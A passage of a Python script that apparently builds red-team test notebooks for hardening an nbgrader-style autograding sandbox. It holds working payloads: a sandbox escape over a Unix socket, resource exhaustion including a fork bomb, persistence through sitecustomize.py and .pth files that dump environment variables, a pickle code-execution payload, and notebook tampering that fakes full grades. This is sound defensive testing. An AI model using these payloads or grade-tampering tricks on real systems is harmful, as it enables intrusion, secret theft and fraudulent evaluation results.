            _s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            _s.settimeout(5)
            _s.connect(_path)
        except OSError as _error:
            print('NO UNIX', _path, type(_error).__name__)
            continue
        print('UNIX CONNECTED', _path)
        try:
            _send(_s, {'files': {}, 'env': {}, 'output_cap_bytes': 100000,
                       'sandbox': {'slot': 0, 'memory_bytes': 1 << 30, 'max_processes': 16, 'hide_paths': [],
                                   'drop_privileges': False}})
            print('ZYGOTE READY', _recv(_s))
            _send(_s, {'type': 'execute', 'code': _escape, 'timeout': 5})
            print('ZYGOTE SAID', _recv(_s))
            _send(_s, {'type': 'shutdown'})
        except (OSError, ValueError) as _error:
            print('UNIX FAILED', _path, type(_error).__name__)
        _s.close()
    """)


# ----------------------------------------------------------------------------- host resources

@attack
def attack_host_fill_dev_shm():
    """Writes 400 MB into /dev/shm in 16 MB files (RAM outside the memory limit) and leaves them."""
    return WRONG + _d("""
    _block = b'x' * (16 << 20)
    for _i in range(25):
        try:
            with open(f'/dev/shm/redteam-{NAME}-{_i}', 'wb') as _handle:
                _handle.write(_block)
        except OSError as _error:
            print('STOPPED', _i, type(_error).__name__)
            break
    """)


@attack
def attack_host_fill_tmp():
    """Writes 300 MB and 2000 small files into /tmp, files in /var/tmp and above the scratch folder; leaves them."""
    return WRONG + _d("""
    _block = b'x' * (16 << 20)
    for _root, _big, _small in (('/tmp', 19, 2000), ('/var/tmp', 1, 10), (_os.path.dirname(_os.getcwd()), 1, 10)):
        try:
            for _i in range(_big):
                with open(f'{_root}/redteam-{NAME}-big{_i}', 'wb') as _handle:
                    _handle.write(_block)
            _os.makedirs(f'{_root}/redteam-{NAME}-many', exist_ok=True)
            for _i in range(_small):
                open(f'{_root}/redteam-{NAME}-many/{_i}', 'w').close()
            print('FILLED', _root)
        except OSError as _error:
            print('STOPPED', _root, type(_error).__name__)
    """)


@attack
def attack_host_sysv_ipc():
    """Creates System V shared memory (64 MB), a message queue and a POSIX mqueue: all outlive the process."""
    return WRONG + _d("""
    import ctypes
    _libc = ctypes.CDLL(None, use_errno=True)
    _IPC_CREAT = 0o1000
    _key = 0x52540000 + (_os.getpid() & 0xffff)
    _shm = _libc.shmget(_key, 64 << 20, _IPC_CREAT | 0o666)
    print('SHM', _shm, ctypes.get_errno())
    print('MSG', _libc.msgget(_key + 1, _IPC_CREAT | 0o666), ctypes.get_errno())
    print('SEM', _libc.semget(_key + 2, 4, _IPC_CREAT | 0o666), ctypes.get_errno())
    try:
        _rt = ctypes.CDLL('librt.so.1', use_errno=True)
        print('MQ', _rt.mq_open(('/redteam-' + NAME).encode(), _os.O_CREAT | _os.O_RDWR, 0o666, None), ctypes.get_errno())
    except OSError as _error:
        print('NO MQ', _error)
    """)


@attack
def attack_host_fork_bomb_setsid():
    """Fork bomb whose children setsid() out of the process group (bounded: each exits after 40 s)."""
    return WRONG + _d("""
    import time
    _deadline = time.time() + 40
    _spawned = 0
    for _i in range(300):
        try:
            _pid = _os.fork()
        except OSError:
            break
        if _pid == 0:
            try:
                _os.setsid()
                while time.time() < _deadline:
                    try:
                        if _os.fork() == 0:
                            _os.setsid()
                    except OSError:
                        pass
                    time.sleep(0.5)
            finally:
                _os._exit(0)
        _spawned += 1
    print('SPAWNED', _spawned)
    """)


@attack
def attack_host_many_threads():
    """Starts 3000 sleeping threads (each ends after 40 s)."""
    return WRONG + _d("""
    import threading, time
    _started = 0
    for _i in range(3000):
        try:
            threading.Thread(target=time.sleep, args=(40,), daemon=True).start()
            _started += 1
        except (RuntimeError, MemoryError):
            break
    print('THREADS', _started)
    """)


@attack
def attack_host_daemon():
    """Double-fork + setsid daemons: one sleeping, one hopping to a new PID every few ms (both end after 40 s)."""
    return WRONG + _d("""
    import time, ctypes
    def _daemon(kind):
        if _os.fork():
            return
        _os.setsid()
        if _os.fork():
            _os._exit(0)
        try:
            ctypes.CDLL(None).prctl(15, ('rt-' + kind).encode(), 0, 0, 0)  # PR_SET_NAME
            _deadline = time.time() + 40
            while time.time() < _deadline:
                if kind == 'hopper':
                    try:
                        if _os.fork():
                            _os._exit(0)
                    except OSError:
                        pass
                    time.sleep(0.003)
                else:
                    try:
                        with open(f'/tmp/redteam-{NAME}-{kind}-alive', 'w') as _handle:
                            _handle.write(str(time.time()))
                    except OSError:
                        pass
                    time.sleep(0.5)
        finally:
            _os._exit(0)
    _daemon('sleeper')
    _daemon('hopper')
    time.sleep(0.2)
    """)


SITECUSTOMIZE = """import os
try:
    with open('/tmp/redteam-host-pth-sitecustomize-ran', 'a') as handle:
        handle.write(repr(dict(os.environ)))
except OSError:
    pass
"""


@attack
def attack_host_pth_sitecustomize():
    """Writes a .pth and sitecustomize.py into every site-packages it can (runs in later Pythons), ships them too."""
    return {
        "code": WRONG + _d("""
        import site, sys, shutil, subprocess
        _line = "import os; open('/tmp/redteam-host-pth-sitecustomize-ran', 'a').write(repr(dict(os.environ)))\\n"
        with open('sitecustomize.py') as _shipped:
            _payload = _shipped.read()
        for _dir in set(site.getsitepackages() + [site.getusersitepackages()] + [p for p in sys.path if p.endswith('site-packages')]):
            for _name, _text in (('redteam.pth', _line), ('sitecustomize.py', _payload)):
                try:
                    with open(_os.path.join(_dir, _name), 'x') as _handle:
                        _handle.write(_text)
                    print('WROTE', _dir, _name)
                except OSError as _error:
                    print('DENIED', _dir, _name, type(_error).__name__)
        """),
        "files": {"sitecustomize.py": SITECUSTOMIZE, "redteam.pth": "import sitecustomize\n"},
    }


class _Payload:
    def __reduce__(self):
        return (exec, ("import os\nopen('/tmp/redteam-host-pickle-payload-ran', 'a').write(repr(dict(os.environ)))",))


@attack
def attack_host_pickle_payload():
    """Ships model.pkl and writes checkpoint.pkl whose unpickling runs code (for a grader that loads them)."""
    payload = base64.b64encode(pickle.dumps(_Payload())).decode()
    return {
        "code": WRONG + _d(f"""
        import base64
        with open('checkpoint.pkl', 'wb') as _handle:
            _handle.write(base64.b64decode({payload!r}))
        """),
        "files": {"model.pkl": "base64:" + payload},
    }


# ----------------------------------------------------------------------------- tampered notebooks

def _add_graded_cell(nb):
    cell = copy.deepcopy(cell_by_id(nb, "test_positive"))
    cell.source = "pass"
    cell["id"] = "redteam-bonus"
    cell.metadata["nbgrader"].update(grade_id="test_bonus", points=100)
    nb.cells.insert(nb.cells.index(cell_by_id(nb, "square_answer")) + 1, cell)


@attack
def attack_tamper_added_graded_cell():
    """Adds a new cell carrying nbgrader grade metadata (100 points, source 'pass')."""
    return {"code": WRONG, "notebook": _add_graded_cell}


def _remark_solution(nb):
    meta = cell_by_id(nb, "square_answer").metadata["nbgrader"]
    meta.update(grade=True, points=10)


@attack
def attack_tamper_remarked_solution():
    """Re-marks the solution cell as a graded cell worth 10 points (it runs without error)."""
    return {"code": WRONG, "notebook": _remark_solution}


def _duplicate_tests_first(nb):
    for grade_id in ("test_positive", "test_negative", "test_arrays"):
        real = cell_by_id(nb, grade_id)
        fake = copy.deepcopy(real)
        fake.source = "pass"
        fake["id"] = f"redteam-{grade_id.replace('_', '-')}"
        nb.cells.insert(nb.cells.index(real), fake)


@attack
def attack_tamper_duplicate_test_first():
    """Places a copy of each test cell (same grade id, source 'pass') before the real one."""
    return {"code": WRONG, "notebook": _duplicate_tests_first}


def _skip_tests(nb):
    for grade_id in ("test_positive", "test_negative", "test_arrays"):
        cell = cell_by_id(nb, grade_id)
        cell.metadata["tags"] = ["skip-execution", "raises-exception"]
        cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="ok\n")]
        cell.execution_count = 1


@attack
def attack_tamper_skip_execution():
    """Tags every test cell 'skip-execution' (nbclient and the executor skip it: no error, full marks)."""
    return {"code": WRONG, "notebook": _skip_tests}


# ----------------------------------------------------------------------------- writing

def release_notebook():
    from nbgrader.preprocessors import ClearHiddenTests, ClearSolutions, ComputeChecksums, LockCells

    # From the committed source (not a fresh source_notebook(): its cell ids are random), so
    # regenerating gives the same files.
    release, resources = nbformat.read(HERE.parent / "squares" / "squares.ipynb", as_version=4), {}
    for preprocessor in (ClearSolutions(), ClearHiddenTests(), LockCells(), ComputeChecksums()):
        release, resources = preprocessor.preprocess(release, resources)
    return release


def main():
    release = release_notebook()
    for old in HERE.glob("*.ipynb"):
        old.unlink()
    nbformat.write(answer(release, WRONG.rstrip("\n")), HERE / "baseline-plus-one.ipynb")
    manifest = {}
    for name, spec in ATTACKS.items():
        nb = answer(release, spec["code"].rstrip("\n"))
        if "notebook" in spec:
            spec["notebook"](nb)
        nbformat.write(nb, HERE / f"{name}.ipynb")
        manifest[name] = {key: spec[key] for key in ("class", "what") if key in spec} | {
            key: spec.get(key, {}) for key in ("files", "symlinks", "hardlinks")
        }
    (HERE / "attacks.json").write_text(json.dumps(manifest, indent=1, sort_keys=True) + "\n")
    print(f"{len(ATTACKS)} attacks written to {HERE}")


if __name__ == "__main__":
    main()
